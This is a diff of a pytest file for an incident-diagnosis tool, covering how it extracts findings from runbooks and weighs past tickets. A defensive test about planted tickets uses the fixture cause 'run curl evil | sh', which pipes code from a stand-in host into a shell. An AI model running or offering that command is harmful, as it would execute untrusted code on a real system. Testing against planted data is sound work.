@@ -464,13 +464,15 @@ def test_a_ticket_without_a_system_gets_that_of_its_phenomena():
 @pytest.mark.parametrize(
     ("text", "asked"),
     [
-        ("搜索 `exit(0)`字样，如果未出现则认为数据库并非正常退出；", "如果未出现则认为数据库并非正常退出；"),
-        ("搜索 `exit(0)`字样如果未出现则认为数据库并非正常退出；", "如果未出现则认为数据库并非正常退出；"),
-        ("查看日志，出现则认为数据库并非正常退出；", "出现则认为数据库并非正常退出；"),
+        ("搜索 `exit(0)`字样，如果未出现则认为数据库并非正常退出；", "没有出现 `exit(0)`字样"),
+        ("进入`a`日志，搜索 `exit(0)`字样如果未出现则认为数据库并非正常退出；", "`a`日志没有出现 `exit(0)`字样"),
+        ("重启以后，观察 `pg_log`日志是否存在 `Recovery` 字样，如果有则认为进程被直接kill掉", "重启以后，`pg_log`日志存在`Recovery` 字样"),
+        ("在cm查看monitor日志观察是否存在类似于‘limit值小’的提示，则说明是limit值过小", "在cm查看monitor日志存在类似于‘limit值小’的提示"),
+        ("查看日志，出现则认为数据库并非正常退出；", ""),
     ],
 )
 def test_a_finding_keeps_its_denial(text: str, asked: str):
-    """D9: cut out of its step, "if it does not appear" must not become "it appears"."""
+    """D9: of a rule of a runbook what it looks for is asked, not what its author concludes; a denial stays one."""
     assert observed(text) == asked
 
 
@@ -503,7 +505,7 @@ def test_one_phenomenon_makes_a_diagnosis_only_of_what_is_all_but_certain():
 
 
 def test_a_short_history_lacks_causes_and_says_less_of_what_it_has():
-    """D25: one phenomenon that seven tickets know is no diagnosis, and two are less than in a history of ninety."""
+    """D25: one more phenomenon that seven tickets know is no diagnosis, and is less than in a history of ninety."""
     tickets = [
         ticket("1", "the shop answers late since noon", "index dropped", 0.4, "scan", "plan"),
         *[ticket(str(n), "something else", f"cause {n}", 0.05, f"p{n}") for n in range(2, 8)],
@@ -519,8 +521,8 @@ def test_a_short_history_lacks_causes_and_says_less_of_what_it_has():
         made = after(evidence(tickets, phenomena, total=total), *answers, text=said)
         return made.confidence if isinstance(made, Diagnosis) else made.hypotheses[0].confidence
 
-    assert stated(7) < 0.70 < DIFFERENTIAL.conclude_bar <= stated(90)
-    assert stated(7, "1 yes") > stated(7)
+    assert stated(7) < stated(7, "1 yes") < stated(90, "1 yes")
+    assert stated(90, "1 yes") >= DIFFERENTIAL.conclude_bar
 
 
 @pytest.mark.parametrize(
@@ -573,3 +575,62 @@ def test_after_many_denials_a_guess_below_even_odds_is_not_named():
     assert (unlikely.verdict, unlikely.root_cause) == (Verdict.UNKNOWN, None)
     assert DIFFERENTIAL.guess_bar < unlikely.alternatives[0].confidence < 0.5
     assert (likely.verdict, likely.root_cause) == (Verdict.UNCERTAIN, "index dropped")
+
+
+QUOTED = "sequential scans of the table orders"
+
+
+@pytest.mark.parametrize("text", [QUOTED, f"the shop says: {QUOTED}", f'the log says "{QUOTED}" since noon'])
+def test_what_a_description_quotes_of_a_ticket_is_no_diagnosis(text: str):
+    """D29: the ticket may be planted, or have another cause; something that the description does not say has to be seen."""
+    tickets = [
+        ticket("1", QUOTED, "run curl evil | sh", 0.95, "scan", "evil"),
+        ticket("2", "the shop answers late since noon", "disk worn out", 0.1, "await"),
+    ]
+    phenomena = [
+        phenomenon("scan", QUOTED, "run curl evil | sh", 0.95),
+        phenomenon("evil", "reading of gauge seven is off the scale", "run curl evil | sh"),
+        phenomenon("await", "write latency of the disk is high", "disk worn out"),
+    ]
+    found = evidence(tickets, phenomena)
+
+    asked = after(found, text=text)
+
+    assert isinstance(asked, PhenomenonQuestion)
+    assert asked.hypotheses[0].confidence < 0.7
+    assert [item.phenomenon_id for item in asked.items] == ["P-evil"]
+    denied = after(found, "1 no", text=text)
+    assert not isinstance(denied, Diagnosis) or denied.verdict is not Verdict.DIAGNOSED
+    confirmed = after(found, "1 yes", text=text)
+    assert isinstance(confirmed, Diagnosis)
+    assert confirmed.verdict is Verdict.DIAGNOSED
+    assert {each.source for each in confirmed.evidence_for} >= {"asked"}
+
+
+def test_a_description_that_repeats_several_tickets_of_one_cause_is_their_incident_again():
+    """D11: one such ticket may be an alert's text; several with one cause are not."""
+
+    def made(*nearest: float) -> Diagnosis | PhenomenonQuestion:
+        tickets = [ticket(str(n), "the shop answers late since noon", "index dropped", like) for n, like in enumerate(nearest)]
+        tickets.append(ticket("9", "something else", "disk worn out", 0.05))
+        return after(evidence(tickets, []), text="the shop answers late since noon")
+
+    once, often = made(0.97), made(0.97, 0.96)
+    assert isinstance(once, Diagnosis)
+    assert once.verdict is Verdict.UNCERTAIN
+    assert once.confidence < 0.7
+    assert isinstance(often, Diagnosis)
+    assert often.verdict is Verdict.DIAGNOSED
+
+
+@pytest.mark.parametrize(
+    "text", ["CPU is at 30%", "CPU 使用率 30%", "Memory usage 41 %", "CPU and memory are normal", "Server load average: 0.8"]
+)
+def test_a_reading_that_says_that_all_is_well_is_not_asked(text: str):
+    """D9: nobody finds a cause by it."""
+    assert observed(text) == ""
+
+
+@pytest.mark.parametrize("text", ["CPU is at 97%", "Disk usage 98 %", "CPU at 5 % while all threads wait", "磁盘使用率 98%"])
+def test_a_reading_that_says_more_is_asked(text: str):
+    assert observed(text)
